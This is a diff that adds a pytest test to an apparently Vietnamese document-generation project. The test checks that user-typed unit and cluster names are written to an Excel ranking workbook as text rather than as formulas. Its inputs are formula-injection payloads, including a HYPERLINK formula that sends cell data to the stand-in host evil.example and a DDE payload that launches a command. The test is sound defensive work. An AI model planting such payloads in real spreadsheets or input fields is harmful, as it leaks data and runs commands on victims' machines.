@@ -497,3 +497,28 @@ def test_different_input_gives_a_different_sha256() -> None:
     other = submission_letter(replace(_letter(), signer_name="Trần Văn Khác"))
 
     assert first.sha256 != other.sha256
+
+
+@pytest.mark.parametrize("name", [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
+    "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"])
+def test_ranking_workbook_writes_a_unit_name_as_text_never_as_a_formula(name: str) -> None:
+    """A unit or cluster name typed by a user is data: openpyxl stores a string starting with
+    "=" as a formula, which Excel would run when the official ranking is opened."""
+    doc = _ranking()
+    first = replace(doc.rows[0], unit=name)
+    doc = replace(doc, cluster=name, rows=(first, *doc.rows[1:]))
+
+    book = ranking_workbook(doc)
+
+    with zipfile.ZipFile(io.BytesIO(book.content)) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist()
+                  if n.startswith("xl/worksheets/")]
+    assert all("<f>" not in xml and "<f " not in xml for xml in sheets)
+    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).worksheets[0]
+    cells = [c for r in sheet.iter_rows() for c in r if c.value is not None]
+    named = [c for c in cells if c.value == name]
+    assert named
+    assert all(c.data_type == "s" for c in named)
+    assert all(c.quotePrefix for c in named if name.startswith(("=", "+", "-", "@")))
+    assert all(c.data_type != "f" for c in cells)
